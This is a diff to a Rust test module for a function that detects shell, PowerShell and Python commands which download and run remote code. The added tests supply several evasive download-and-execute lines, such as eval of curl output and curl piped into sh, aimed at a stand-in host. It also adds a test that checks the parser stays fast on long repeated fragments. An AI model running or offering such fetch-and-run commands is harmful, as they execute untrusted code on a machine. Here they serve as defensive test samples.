@@ -303,6 +303,10 @@ mod tests {
             "python3 -c \"import os; os.system('curl https://a.test | sh')\"",
             "bash <<< \"$(curl https://a.test/x)\"",
             "sh -c 'curl https://a.test/x | sh'",
+            "eval \"$(echo $(curl https://a.test/x))\"",
+            "sh -c \"$(cat <(curl https://a.test/x))\"",
+            "curl -o ./d/f https://a.test/x; sh d/f",
+            "X=`curl https://a.test/x`; sh -c \"${X}\"",
         ] {
             assert!(executes("bash", line), "{line}");
         }
@@ -335,6 +339,40 @@ mod tests {
         assert!(executes("powershell", &base64("iwr https://a.test/x | iex")));
         assert!(!executes("powershell", &base64("Get-Process")) && !executes("powershell", "start"));
         assert!(!executes("python", "import requests; requests.get('https://a.test/up')"));
+    }
+
+    #[test]
+    fn no_line_is_read_more_often_than_it_is_deep() {
+        let units = [
+            "$(",
+            "`",
+            "\"$(",
+            "<(",
+            "$(curl ",
+            "$(a)",
+            "'",
+            "\"",
+            "eval $(",
+            "X=$(curl b);",
+            "sh -c \"$(",
+            "a|",
+            "((",
+            "\\",
+        ];
+        for unit in units {
+            for wrap in ["", "bash -c '", "eval \"", "X=\"", "X=$(curl a); sh -c \"$X "] {
+                let code = format!("{wrap}{}", unit.repeat(20_000));
+                super::words::READ.with(|read| read.set(0));
+                executes("bash", &code);
+                let read = super::words::READ.with(std::cell::Cell::get);
+                assert!(read < code.len() * 64, "{wrap}{unit}: {read} of {}", code.len());
+            }
+        }
+        // very many files that hold what was fetched, and very many words that may be one
+        let many: String =
+            (0..20_000).map(|i| format!("curl -o f{i} https://a.test; X{i}=$(curl b); cat g{i} $Y{i};")).collect();
+        assert!(!executes("bash", &many) && executes("bash", &format!("{many} sh f19999")));
+        assert!(executes("bash", &format!("{many} eval \"$X19999\"")));
     }
 
     #[test]
